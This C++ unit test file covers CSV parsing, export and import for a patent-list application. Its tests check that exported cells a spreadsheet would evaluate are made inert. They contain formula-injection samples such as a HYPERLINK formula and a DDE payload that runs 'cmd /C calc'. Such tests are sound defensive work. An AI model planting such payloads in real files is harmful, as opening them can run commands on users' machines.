#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "entries/Csv.h"
#include "entries/CsvExport.h"
#include "entries/CsvImport.h"
#include "entries/EntryList.h"
#include "entries/Identifier.h"
#include "platform/Files.h"
#include "rules/Dates.h"
#include "support/TempDir.h"

namespace larkspire {
namespace {

using Rows = std::vector<std::vector<std::string>>;

const std::string kFixtures = std::string(LARKSPIRE_TEST_DATA) + "/csv/";

std::string ReadFixture(const std::string& name) {
  std::string bytes;
  EXPECT_TRUE(ReadWholeFile(kFixtures + name, bytes)) << name;
  return bytes;
}

Rows FieldsOf(const CsvTable& table) {
  Rows rows;
  for (const CsvRecord& record : table.records) rows.push_back(record.fields);
  return rows;
}

// --- Reading ------------------------------------------------------------------------------

TEST(CsvRead, FieldsRecordsAndSeparators) {
  struct Case {
    const char* name;
    std::string bytes;
    char separator;
    Rows rows;
  };
  const Case cases[] = {
      {"empty file", "", ',', {}},
      {"byte order mark alone", "\xEF\xBB\xBF", ',', {}},
      {"one field, no line end", "abc", ',', {{"abc"}}},
      {"CR LF line ends", "a,b\r\nc,d\r\n", ',', {{"a", "b"}, {"c", "d"}}},
      {"LF line ends", "a,b\nc,d\n", ',', {{"a", "b"}, {"c", "d"}}},
      {"CR line ends (old Mac)", "a,b\rc,d\r", ',', {{"a", "b"}, {"c", "d"}}},
      {"last line without line end", "a,b\r\nc,d", ',', {{"a", "b"}, {"c", "d"}}},
      {"empty fields", ",a,,\r\n", ',', {{"", "a", "", ""}}},
      {"empty line is one empty field", "a\r\n\r\nb\r\n", ',', {{"a"}, {""}, {"b"}}},
      {"separator in quotes", "\"10/123,456\",x\r\n", ',', {{"10/123,456", "x"}}},
      {"doubled quotes", "\"say \"\"hi\"\"\",\"\"\"\"\r\n", ',', {{"say \"hi\"", "\""}}},
      {"empty quoted field", "\"\",a\r\n", ',', {{"", "a"}}},
      {"LF inside quotes", "\"one\ntwo\",x\n", ',', {{"one\ntwo", "x"}}},
      {"CR LF inside quotes kept", "\"one\r\ntwo\",x\r\ny\r\n", ',', {{"one\r\ntwo", "x"}, {"y"}}},
      {"quote inside an unquoted field is text", "5\" disk,x\r\n", ',', {{"5\" disk", "x"}}},
      {"text after a closing quote joins the field", "\"ab\"cd,x\r\n", ',', {{"abcd", "x"}}},
      {"blanks around fields kept", " a , b \r\n", ',', {{" a ", " b "}}},
      {"semicolons",
       "Reference;Number\r\nR-1;10/123,456\r\n",
       ';',
       {{"Reference", "Number"}, {"R-1", "10/123,456"}}},
      {"commas in quotes do not make a comma file",
       "\"a,b,c\";d;e\r\n",
       ';',
       {{"a,b,c", "d", "e"}}},
      {"a tie goes to the comma", "a,b;c\r\n", ',', {{"a", "b;c"}}},
      {"semicolons in quotes do not count", "\"a;b;c\",d\r\n", ',', {{"a;b;c", "d"}}},
      {"Excel's separator hint", "sep=;\r\na,b;c\r\n", ';', {{"a,b", "c"}}},
      {"comma hint against a semicolon majority", "sep=,\na;b;c,d\n", ',', {{"a;b;c", "d"}}},
      {"a hint line with more is data", "sep=;x,y\r\n", ',', {{"sep=;x", "y"}}},
      {"byte order mark then semicolons",
       "\xEF\xBB\xBF"
       "a;b\r\n",
       ';',
       {{"a", "b"}}},
  };
  for (const Case& c : cases) {
    const CsvTable table = ReadCsv(c.bytes);
    EXPECT_EQ(table.separator, c.separator) << c.name;
    EXPECT_EQ(FieldsOf(table), c.rows) << c.name;
    EXPECT_FALSE(table.unclosed_quote) << c.name;
  }
}

TEST(CsvRead, Utf8BecomesWindows1252AndOtherBytesAreTakenAsTheyAre) {
  struct Case {
    const char* name;
    std::string bytes;
    std::string field;
  };
  const Case cases[] = {
      {"UTF-8 e acute and registered sign", "Caf\xC3\xA9\xC2\xAE\r\n", "Caf\xE9\xAE"},
      {"UTF-8 with byte order mark",
       "\xEF\xBB\xBF"
       "Caf\xC3\xA9\r\n",
       "Caf\xE9"},
      {"UTF-8 euro sign and curly quotes", "\xE2\x82\xAC \xE2\x80\x9Cx\xE2\x80\x9D",
       "\x80 \x93x\x94"},
      {"Windows-1252 e acute and registered sign", "Caf\xE9\xAE\r\n", "Caf\xE9\xAE"},
      {"Windows-1252 euro sign", "\x80 5\r\n", "\x80 5"},
      // One byte that is not UTF-8 makes the whole file Windows-1252, including sequences
      // that would have read as UTF-8 on their own.
      {"mixed bytes are Windows-1252", "\xC3\xA9 \xE9\r\n", "\xC3\xA9 \xE9"},
      {"UTF-8 beyond Windows-1252", "\xE6\x97\xA5\xE6\x9C\xAC-1\r\n", "??-1"},
  };
  for (const Case& c : cases) {
    EXPECT_EQ(FieldsOf(ReadCsv(c.bytes)), Rows{{c.field}}) << c.name;
  }
}

TEST(CsvRead, RecordsKnowTheLineTheyStartOn) {
  const CsvTable table = ReadCsv("sep=,\r\nh1,h2\r\n\"a\r\nb\",c\r\n\"x\ry\nz\"\r\nlast");
  ASSERT_EQ(table.records.size(), 4u);
  EXPECT_EQ(table.records[0].line, 2u);
  EXPECT_EQ(table.records[1].line, 3u);
  EXPECT_EQ(table.records[2].line, 5u);
  EXPECT_EQ(table.records[3].line, 8u);
}

TEST(CsvRead, AnUnclosedQuoteRunsToTheEndAndIsFlagged) {
  const CsvTable table = ReadCsv("a,b\r\n\"open,c\r\nd,e\r\n");
  EXPECT_TRUE(table.unclosed_quote);
  EXPECT_EQ(FieldsOf(table), (Rows{{"a", "b"}, {"open,c\r\nd,e\r\n"}}));
}

// --- Writing ------------------------------------------------------------------------------

TEST(CsvWrite, QuotesOnlyWhatNeedsQuotesAndWritesUtf8) {
  struct Case {
    std::vector<std::string> fields;
    const char* bytes;
  };
  const Case cases[] = {
      {{"a", "b"}, "a,b\r\n"},
      {{""}, "\r\n"},
      {{"", ""}, ",\r\n"},
      {{"10/123,456"}, "\"10/123,456\"\r\n"},
      {{"Smith; Jones"}, "\"Smith; Jones\"\r\n"},
      {{"say \"hi\""}, "\"say \"\"hi\"\"\"\r\n"},
      {{"one\r\ntwo", "x"}, "\"one\r\ntwo\",x\r\n"},
      {{"lone\rCR"}, "\"lone\rCR\"\r\n"},
      {{" blanks "}, " blanks \r\n"},
      {{"sep=", ""}, "\"sep=\",\r\n"},
      {{"R&D-1", "Larkspire\xAE", "caf\xE9"}, "R&D-1,Larkspire\xC2\xAE,caf\xC3\xA9\r\n"},
  };
  for (const Case& c : cases) {
    std::string out = "before\r\n";
    AppendCsvRecord(out, c.fields);
    EXPECT_EQ(out, std::string("before\r\n") + c.bytes);
  }
}

TEST(CsvWrite, WhatIsWrittenReadsBackUnchanged) {
  const Rows rows = {
      {"plain", "10/123,456", "a;b", "\"", "\"\"", ""},
      {"line\r\nbreak", "lf\nonly", "cr\ronly", "M\xFCller", "\x80", "\xAE"},
      {"trailing,", ",leading", " ", "x\"y", "\x81\x8D\x8F\x90\x9D", "last"},
  };
  std::string bytes;
  for (const auto& row : rows) AppendCsvRecord(bytes, row);
  const CsvTable table = ReadCsv(bytes);
  EXPECT_EQ(table.separator, ',');
  EXPECT_EQ(FieldsOf(table), rows);
}

TEST(CsvWrite, AFirstRecordThatLooksLikeTheSeparatorHintReadsBackAsData) {
  for (const Rows& rows : {Rows{{"sep=", ""}}, Rows{{"sep=;"}}, Rows{{"sep=;", "x;y"}}}) {
    std::string bytes;
    for (const auto& row : rows) AppendCsvRecord(bytes, row);
    EXPECT_EQ(FieldsOf(ReadCsv(bytes)), rows) << bytes;
  }
}

TEST(CsvWrite, CellsASpreadsheetWouldEvaluateGetAQuoteThatReadingTakesOff) {
  struct Case {
    const char* cell;
    const char* written;
  };
  const Case cases[] = {
      {"=HYPERLINK(\"http://x.test\",\"y\")", "'=HYPERLINK(\"http://x.test\",\"y\")"},
      {"+1+2", "'+1+2"},
      {"-2+3", "'-2+3"},
      {"-", "'-"},
      {"@SUM(A1)", "'@SUM(A1)"},
      {"\t=1", "'\t=1"},
      {"\r=1", "'\r=1"},
      {"\n=1", "'\n=1"},
      // Quotes before a formula get one more, so the cell reads back with all of its own.
      {"'=1", "''=1"},
      {"''@x", "'''@x"},
      // What no spreadsheet evaluates stays as it is: a user's own quote too.
      {"'abc", "'abc"},
      {"'", "'"},
      {"''", "''"},
      {"", ""},
      {"A-1", "A-1"},
      {"2006-11-30", "2006-11-30"},
      {" =1", " =1"},
  };
  for (const Case& c : cases) {
    EXPECT_EQ(MakeCellInert(c.cell), c.written) << c.cell;
    EXPECT_EQ(RestoreInertCell(c.written), c.cell) << c.written;
  }
}

// --- Export -------------------------------------------------------------------------------

CEntry NumberedEntry(const std::string& reference, const std::string& number) {
  CEntry entry;
  entry.SetText(kReference, reference);
  EXPECT_FALSE(SetIdentifier(entry, number)) << number;
  return entry;
}

// A list with everything an export must carry: every field set, separators, quotes and line
// breaks in texts, characters beyond ASCII, each frequency and unset dates.
CEntryList SampleList() {
  CEntryList list;
  list.SetSort(kReference, false);
  CEntry full = NumberedEntry("R&D-1, \"Alpha\"", "10/123,456");
  full.frequency = kWeekly;
  full.last_update = ParseDayNumber("2007-01-03");
  full.last_change = ParseDayNumber("2006-11-30");
  full.Text(kLastHistoryDate) = "2006-11-30";
  full.Text(kLastHistoryText) = "Mail Notice of Allowance; \"final\"";
  full.Text(kFilingDate) = "2005-02-01";
  full.Text(kIssueDate) = kUnknownDate;
  full.Text(kDocketNumber) = "R&D-1";
  full.Text(kExaminer) = "M\xDCLLER, J\xC9R\xD4ME";
  full.Text(kArtUnit) = "1642";
  full.Text(kPubNum) = "US 2006-0123456 A1";
  full.Text(kPubDate) = "2006-06-08";
  full.Text(kConfirmNum) = "4711";
  full.Text(kPatNum) = "7,123,456";
  full.Text(kClass) = "435/6";
  full.Text(kLocation) = "FILE REPOSITORY (FRANCONIA)";
  full.Text(kStatus) = "Patented Case";
  full.Text(kCustNum) = "23456";
  full.Text(kForeign) = "EP 04012345.6, 2004-05-24";
  full.Text(kParentContinuity) = "This application claims benefit of 60/555,555";
  full.Text(kChildContinuity) = "11/999,999 filed 2007-01-02";
  full.Text(kPTA) = "123";
  full.Text(kPTE) = "0";
  full.Text(kError) = "Larkspire\xAE: the page said \"busy\"";
  list.Insert(full);

  CEntry design = NumberedEntry("Caf\xE9 \x80 design", "D512345");
  design.frequency = kNever;
  list.Insert(design);
  CEntry publication = NumberedEntry("Gamma", "2008/0001234A2");
  publication.frequency = kMonthly;
  publication.last_update = ParseDayNumber("2008-02-29");
  list.Insert(publication);
  CEntry reissue = NumberedEntry("beta", "RE12345");
  reissue.frequency = kYearly;
  list.Insert(reissue);
  list.Insert(NumberedEntry("Delta", "US 2007-0123456 a1"));
  return list;
}

const char kHeader[] =
    "Frequency,Last Update,Last Change,Reference,App #,Last History,Last History Description,"
    "Filed,Issued,Docket Number,Examiner,Art,Pub #,Pub Date,Confirm #,Pat #,Class,Location,"
    "Status,Cust #,Foreign,Parent Continuity,Child Continuity,PTA,PTE,Error\r\n";

TEST(CsvExport, HeaderOfColumnCaptionsThenOneRecordPerRowInListOrder) {
  CEntryList list;
  list.SetSort(kReference, true);
  list.Insert(NumberedEntry("A-1", "10/000,001"));
  CEntry second = NumberedEntry("B-2", "7123456");
  second.frequency = kMonthly;
  second.last_update = ParseDayNumber("2007-01-03");
  list.Insert(second);
  // Reversed by Reference: B-2 first; numbers with commas are quoted.
  EXPECT_EQ(FormatListCsv(list), std::string("\xEF\xBB\xBF") + kHeader + "Monthly,2007-01-03,,B-2" +
                                     std::string(12, ',') + "\"7,123,456\"" + std::string(10, ',') +
                                     "\r\n" + "Daily,,,A-1,\"10/000,001\"" + std::string(21, ',') +
                                     "\r\n");
}

TEST(CsvExport, EveryFieldReadsBackInTheFormTheListShows) {
  const CEntryList list = SampleList();
  const CsvTable table = ReadCsv(FormatListCsv(list));
  ASSERT_EQ(table.records.size(), list.Size() + 1);
  for (int id = 0; id < kFieldCount; ++id) {
    EXPECT_EQ(table.records[0].fields[id], kFields[id].column_caption);
  }
  for (std::size_t row = 0; row < list.Size(); ++row) {
    const std::vector<std::string>& fields = table.records[row + 1].fields;
    ASSERT_EQ(fields.size(), static_cast<std::size_t>(kFieldCount));
    for (int id = 0; id < kFieldCount; ++id) {
      EXPECT_EQ(fields[id], list.At(row).GetText(id)) << row << " " << kFields[id].key;
    }
  }
}

TEST(CsvExport, WritesTheFileWholeOrReportsFailure) {
  CTempDir dir;
  const CEntryList list = SampleList();
  const std::string path = dir.File("list.csv");
  ASSERT_TRUE(SaveFileAtomically(path, "an older, longer export\r\n\r\n\r\n\r\n\r\n\r\n\r\n"));
  ASSERT_TRUE(ExportListCsv(list, path));
  std::string written;
  ASSERT_TRUE(ReadWholeFile(path, written));
  EXPECT_EQ(written, FormatListCsv(list));
  EXPECT_FALSE(ExportListCsv(list, dir.File("missing/list.csv")));
}

// --- Import -------------------------------------------------------------------------------

struct Added {
  std::size_t line;
  std::string reference, app_num, pat_num, pub_num;
  bool operator==(const Added&) const = default;
};

struct Refused {
  std::size_t line;
  std::string reference, number, reason;
  bool operator==(const Refused&) const = default;
};

std::ostream& operator<<(std::ostream& out, const Added& a) {
  return out << a.line << " [" << a.reference << "] " << a.app_num << "|" << a.pat_num << "|"
             << a.pub_num;
}

std::ostream& operator<<(std::ostream& out, const Refused& r) {
  return out << r.line << " [" << r.reference << "] [" << r.number << "] " << r.reason;
}

std::vector<Added> AddedOf(const CsvImportPreview& preview) {
  std::vector<Added> added;
  for (const CsvImportRow& row : preview.additions) {
    const CEntry& e = row.entry;
    added.push_back(
        {row.line, e.Text(kReference), e.Text(kAppNum), e.Text(kPatNum), e.Text(kPubNum)});
  }
  return added;
}

std::vector<Refused> RefusedOf(const CsvImportPreview& preview) {
  std::vector<Refused> refused;
  for (const CsvRefusedRow& row : preview.refusals) {
    refused.push_back({row.line, row.reference, row.number, row.reason});
  }
  return refused;
}

TEST(CsvImport, FindsTheColumnsByTheirCaptions) {
  struct Case {
    const char* name;
    std::string bytes;
    std::vector<Added> added;
  };
  const Case cases[] = {
      {"simple captions",
       "Reference,Number\r\nR-1,\"10/123,456\"\r\n",
       {{2, "R-1", "10/123,456", "", ""}}},
      {"the Add dialog's caption",
       "Application/Pat/Pub Number,Reference\r\n7123456,R-1\r\n",
       {{2, "R-1", "", "7,123,456", ""}}},
      {"list captions",
       "Pat #;Reference;App #\r\n;R-1;10/123,456\r\n7123456;R-3;\r\n",
       {{2, "R-1", "10/123,456", "", ""}, {3, "R-3", "", "7,123,456", ""}}},
      {"field keys, any case",
       "REFERENCE,PUBNUM\r\nR-1,2007/0123456A1\r\n",
       {{2, "R-1", "", "", "2007-0123456 A1"}}},
      {"application wins over patent on one row",
       "Patent,Application,Ref.\r\n7123456,\"10/123,456\",R-1\r\n",
       {{2, "R-1", "10/123,456", "", ""}}},
      {"a number column wins over the typed ones",
       "Publication,Number,Reference\r\n2007-0123456 A1,7123456,R-1\r\n",
       {{2, "R-1", "", "7,123,456", ""}}},
      {"reference before docket number",
       "Docket Number,Reference,Patent\r\nD-1,R-1,7123456\r\n",
       {{2, "R-1", "", "7,123,456", ""}}},
      {"docket number alone",
       "Attorney Docket Number,Patent No.\r\nD-1,7123456\r\n",
       {{2, "D-1", "", "7,123,456", ""}}},
      {"no header: reference then number",
       "R-1,7123456,ignored\r\nR-2,\"10/123,456\"\r\n",
       {{1, "R-1", "", "7,123,456", ""}, {2, "R-2", "10/123,456", "", ""}}},
      {"blanks around captions and values",
       " Reference ; Patent \r\n  R-1 ;\t7123456\xA0\r\n",
       {{2, "R-1", "", "7,123,456", ""}}},
  };
  for (const Case& c : cases) {
    const CsvImportPreview preview = PreviewCsvImport(c.bytes, CEntryList());
    EXPECT_EQ(preview.problem, "") << c.name;
    EXPECT_FALSE(preview.restores_fields) << c.name;
    EXPECT_EQ(AddedOf(preview), c.added) << c.name;
    EXPECT_TRUE(preview.refusals.empty()) << c.name;
  }
}

TEST(CsvImport, AnUnquotedCommaInANumberShowsAsAnInvalidNumber) {
  const CsvImportPreview preview =
      PreviewCsvImport("Reference,Number\r\nR-1,10/123,456\r\n", CEntryList());
  EXPECT_EQ(RefusedOf(preview), (std::vector<Refused>{{2, "R-1", "10/123", kImportInvalidNumber}}));
}

TEST(CsvImport, AcceptsEverySpellingTheAddDialogAccepts) {
  const char* const spellings[] = {
      "10/123,456", "7123456", "7,123,456", "RE12345", "D512345", "2007/0123456A1",
      "2007-0123456A1", "2007/0123456 A1", "2007-0123456 a1", "US 2007-0123456 A1",
      "us 2007-0123456 A1",
      // The parser's own output for reissues, which it does not read as typed input.
      "RE12,345", "PP12,345"};
  for (const char* spelling : spellings) {
    CEntry expected;
    const std::string text = spelling;
    const bool own_form = text.size() == 8 && text[4] == ',';
    ASSERT_FALSE(SetIdentifier(expected, own_form ? text.substr(0, 4) + text.substr(5) : text))
        << spelling;
    const CsvImportPreview preview =
        PreviewCsvImport("Reference,Number\r\nR-1,\"" + text + "\"\r\n", CEntryList());
    ASSERT_EQ(preview.additions.size(), 1u) << spelling;
    const CEntry& entry = preview.additions[0].entry;
    for (int id : {kAppNum, kPatNum, kPubNum}) {
      EXPECT_EQ(entry.Text(id), expected.Text(id)) << spelling;
    }
  }
  for (const char* rejected :
       {"10123456", "2007-0123456 A", "10/123456", "1,234,56,7", "R12,345"}) {
    const CsvImportPreview preview = PreviewCsvImport(
        std::string("Reference,Number\r\nR-1,\"") + rejected + "\"\r\n", CEntryList());
    EXPECT_EQ(RefusedOf(preview),
              (std::vector<Refused>{{2, "R-1", rejected, kImportInvalidNumber}}))
        << rejected;
  }
}

TEST(CsvImport, RefusesRowsAndSaysWhy) {
  CEntryList list;
  list.Insert(NumberedEntry("Listed-App", "10/123,456"));
  CEntry granted = NumberedEntry("Listed-Pat", "11/111,111");
  granted.Text(kPatNum) = "7,000,001";
  granted.Text(kPubNum) = "US 2006-0000001 A1";
  list.Insert(granted);
  const std::string bytes =
      "Reference;Number\r\n"
      "New-1;10/222,222\r\n"            // line 2: added
      "Again-1;10/222,222\r\n"          // line 3: repeats line 2
      "Dup-App;10/123,456\r\n"          // line 4: in the list by application
      "Dup-Pat;7000001\r\n"             // line 5: a number the list learnt
      "Dup-Pub;2006-0000001 a1\r\n"     // line 6: publication, "US " and case aside
      ";10/333,333\r\n"                 // line 7
      "  ;10/333,333\r\n"               // line 8: blanks are no reference
      "No-Number;\r\n"                  // line 9
      "Bad;12-345\r\n"                  // line 10
      ";\r\n"                           // line 11: empty, skipped
      " ; \t\r\n"                       // line 12: blank, skipped
      "New-2;2007/0123456A1\r\n"        // line 13: added
      "Again-2;US 2007-0123456 A1\r\n"  // line 14: the same publication
      "\"\r\n\";10/444,444\r\n"         // line 15: a line break is no reference
      "\v\x01;10/555,555\r\n";          // line 17: nor are control bytes, stored as blanks
  const CsvImportPreview preview = PreviewCsvImport(bytes, list);
  EXPECT_EQ(AddedOf(preview), (std::vector<Added>{{2, "New-1", "10/222,222", "", ""},
                                                  {13, "New-2", "", "", "2007-0123456 A1"}}));
  EXPECT_EQ(RefusedOf(preview),
            (std::vector<Refused>{
                {3, "Again-1", "10/222,222", "duplicate of line 2"},
                {4, "Dup-App", "10/123,456", "duplicate of Listed-App in the list"},
                {5, "Dup-Pat", "7000001", "duplicate of Listed-Pat in the list"},
                {6, "Dup-Pub", "2006-0000001 a1", "duplicate of Listed-Pat in the list"},
                {7, "", "10/333,333", kImportNoReference},
                {8, "  ", "10/333,333", kImportNoReference},
                {9, "No-Number", "", kImportNoNumber},
                {10, "Bad", "12-345", kImportInvalidNumber},
                {14, "Again-2", "US 2007-0123456 A1", "duplicate of line 13"},
                {15, "\r\n", "10/444,444", kImportNoReference},
                {17, "\v\x01", "10/555,555", kImportNoReference},
            }));
}

TEST(CsvImport, AHeaderWithoutTheNeededColumnsIsAProblemOfTheFile) {
  struct Case {
    const char* bytes;
    const char* problem;
  };
  const Case cases[] = {
      {"Reference,Status\r\nR-1,7123456\r\n", kImportNoNumberColumn},
      {"Patent,Status\r\n7123456,granted\r\n", kImportNoReferenceColumn},
  };
  for (const Case& c : cases) {
    const CsvImportPreview preview = PreviewCsvImport(c.bytes, CEntryList());
    EXPECT_EQ(preview.problem, c.problem) << c.bytes;
    EXPECT_TRUE(preview.additions.empty()) << c.bytes;
    EXPECT_TRUE(preview.refusals.empty()) << c.bytes;
  }
  EXPECT_EQ(PreviewCsvImport("", CEntryList()).problem, "");
}

TEST(CsvImport, AnUnclosedQuoteRefusesTheRowThatSwallowedTheRest) {
  const CsvImportPreview preview = PreviewCsvImport(
      "Reference,Patent\r\nR-1,7123456\r\n\"R-2,7123457\r\nR-3,7123458\r\n", CEntryList());
  EXPECT_EQ(AddedOf(preview), (std::vector<Added>{{2, "R-1", "", "7,123,456", ""}}));
  ASSERT_EQ(preview.refusals.size(), 1u);
  EXPECT_EQ(preview.refusals[0].line, 3u);
  EXPECT_EQ(preview.refusals[0].reason, kImportUnclosedQuote);
}

TEST(CsvImport, ReferencesBecomeOneLineInWindows1252) {
  const CsvImportPreview preview = PreviewCsvImport(
      "Reference,Patent\r\n\"Caf\xC3\xA9\xC2\xAE\r\nsecond line\",7123456\r\n", CEntryList());
  EXPECT_EQ(AddedOf(preview),
            (std::vector<Added>{{2, "Caf\xE9\xAE  second line", "", "7,123,456", ""}}));
}

TEST(CsvImport, ExcelSemicolonsWithByteOrderMark) {
  const CsvImportPreview preview =
      PreviewCsvImport(ReadFixture("excel-semicolon-bom.csv"), CEntryList());
  EXPECT_EQ(preview.problem, "");
  EXPECT_EQ(AddedOf(preview), (std::vector<Added>{{2, "R&D-1", "10/123,456", "", ""},
                                                  {3, "Smith; Jones", "", "7,123,456", ""},
                                                  {4, "M\xFCller-\xE9", "", "", "2007-0123456 A1"},
                                                  {6, "Caf\xE9\xAE", "", "RE12,345", ""}}));
  EXPECT_EQ(RefusedOf(preview),
            (std::vector<Refused>{{7, "Quote \"A\"", "10/123,456", "duplicate of line 2"},
                                  {8, "", "11/222,333", kImportNoReference},
                                  {9, "Short", "12345", kImportInvalidNumber}}));
}

TEST(CsvImport, ExcelWindows1252) {
  const CsvImportPreview preview =
      PreviewCsvImport(ReadFixture("excel-windows-1252.csv"), CEntryList());
  EXPECT_EQ(AddedOf(preview), (std::vector<Added>{{2, "Caf\xE9\xAE", "", "7,654,321", ""},
                                                  {3, "Plain", "09/876,543", "", ""}}));
  EXPECT_TRUE(preview.refusals.empty());
}

TEST(CsvImport, LibreOffice) {
  CEntryList list;
  list.Insert(NumberedEntry("Listed", "10/123,456"));
  const CsvImportPreview preview = PreviewCsvImport(ReadFixture("libreoffice.csv"), list);
  EXPECT_EQ(AddedOf(preview), (std::vector<Added>{{3, "Beta", "", "", "US 2007-0123456 A1"},
                                                  {4, "Gamma", "", "", "2008-0001234 a2"},
                                                  {5, "Line one line two", "09/876,543", "", ""}}));
  EXPECT_EQ(RefusedOf(preview),
            (std::vector<Refused>{{2, "Alpha", "10/123,456", "duplicate of Listed in the list"},
                                  {7, "Delta", "2007-0123456 A1", "duplicate of line 3"}}));
}

// --- Round trip ---------------------------------------------------------------------------

TEST(CsvRoundTrip, PageTextThatLooksLikeAFormulaIsWrittenInertAndReadBackAsItWas) {
  CEntryList list;
  CEntry entry = NumberedEntry("'own quote", "10/123,456");
  entry.Text(kStatus) = "=HYPERLINK(\"http://x.test/?\"&A1,\"Open\")";
  entry.Text(kExaminer) = "@SUM(A1:A9)";
  entry.Text(kLastHistoryText) = "-1+cmd|' /C calc'!A0";
  entry.Text(kLocation) = "'+already quoted";
  list.Insert(entry);
  const std::string exported = FormatListCsv(list);
  const CsvTable table = ReadCsv(exported);
  ASSERT_EQ(table.records.size(), 2u);
  const std::vector<std::string>& fields = table.records[1].fields;
  EXPECT_EQ(fields[kReference], "'own quote");
  for (int id : {kStatus, kExaminer, kLastHistoryText, kLocation}) {
    EXPECT_EQ(fields[id], "'" + entry.Text(id)) << kFields[id].key;
  }

  const CsvImportPreview preview = PreviewCsvImport(exported, CEntryList());
  ASSERT_EQ(preview.additions.size(), 1u);
  for (int id : {kReference, kStatus, kExaminer, kLastHistoryText, kLocation}) {
    EXPECT_EQ(preview.additions[0].entry.Text(id), entry.Text(id)) << kFields[id].key;
  }
  CEntryList again;
  again.Insert(preview.additions[0].entry);
  EXPECT_EQ(FormatListCsv(again), exported);
}

// A number the import took as it stood can start like a formula; the export writes it inert,
// and its own import must read it back, not refuse it.
TEST(CsvRoundTrip, ANumberWrittenInertComesBackAsItWas) {
  const CsvImportPreview first =
      PreviewCsvImport("Reference,Number\r\nCafe,+E12345\r\n", CEntryList());
  ASSERT_EQ(first.additions.size(), 1u);
  CEntryList list;
  list.Insert(first.additions[0].entry);
  const std::string exported = FormatListCsv(list);
  ASSERT_NE(exported.find("'+E"), std::string::npos);
  const CsvImportPreview again = PreviewCsvImport(exported, CEntryList());
  EXPECT_EQ(RefusedOf(again), std::vector<Refused>{});
  ASSERT_EQ(again.additions.size(), 1u);
  CEntryList reimported;
  reimported.Insert(again.additions[0].entry);
  EXPECT_EQ(FormatListCsv(reimported), exported);
}

TEST(CsvRoundTrip, ExportImportIntoAFreshListExportAgainIsByteIdentical) {
  const CEntryList list = SampleList();
  const std::string first = FormatListCsv(list);

  CEntryList fresh;
  fresh.SetSort(list.SortField(), list.SortReversed());
  const CsvImportPreview preview = PreviewCsvImport(first, fresh);
  EXPECT_TRUE(preview.restores_fields);
  EXPECT_EQ(RefusedOf(preview), std::vector<Refused>{});
  ASSERT_EQ(preview.additions.size(), list.Size());
  for (const CsvImportRow& row : preview.additions) fresh.Insert(row.entry);

  EXPECT_EQ(FormatListCsv(fresh), first);
  for (std::size_t row = 0; row < list.Size(); ++row) {
    EXPECT_EQ(fresh.At(row).frequency, list.At(row).frequency) << row;
    EXPECT_EQ(fresh.At(row).last_update, list.At(row).last_update) << row;
    EXPECT_EQ(fresh.At(row).last_change, list.At(row).last_change) << row;
  }
}

TEST(CsvRoundTrip, ImportingTheExportIntoTheSameListRefusesEveryRowAsDuplicate) {
  const CEntryList list = SampleList();
  const CsvImportPreview preview = PreviewCsvImport(FormatListCsv(list), list);
  EXPECT_TRUE(preview.additions.empty());
  ASSERT_EQ(preview.refusals.size(), list.Size());
  for (std::size_t row = 0; row < list.Size(); ++row) {
    EXPECT_EQ(preview.refusals[row].reason,
              "duplicate of " + list.At(row).Text(kReference) + " in the list");
  }
}

TEST(CsvRoundTrip, AnExportWithColumnsMovedStillRestoresEveryField) {
  const CEntryList list = SampleList();
  const CsvTable table = ReadCsv(FormatListCsv(list));
  // A spreadsheet user moved the Error column to the front and saved with semicolons in the
  // Windows code page.
  std::string moved;
  for (const CsvRecord& record : table.records) {
    std::string line;
    std::vector<std::string> fields = record.fields;
    fields.insert(fields.begin(), fields.back());
    fields.pop_back();
    for (std::size_t i = 0; i < fields.size(); ++i) {
      const bool quote = fields[i].find_first_of(";\"\r\n") != std::string::npos;
      std::string field = fields[i];
      for (std::size_t at = 0; (at = field.find('"', at)) != std::string::npos; at += 2) {
        field.insert(at, 1, '"');
      }
      line += (i ? ";" : "") + (quote ? "\"" + field + "\"" : field);
    }
    moved += line + "\r\n";
  }
  CEntryList fresh;
  fresh.SetSort(list.SortField(), list.SortReversed());
  const CsvImportPreview preview = PreviewCsvImport(moved, fresh);
  EXPECT_TRUE(preview.restores_fields);
  for (const CsvImportRow& row : preview.additions) fresh.Insert(row.entry);
  EXPECT_EQ(FormatListCsv(fresh), FormatListCsv(list));
}

}  // namespace
}  // namespace larkspire
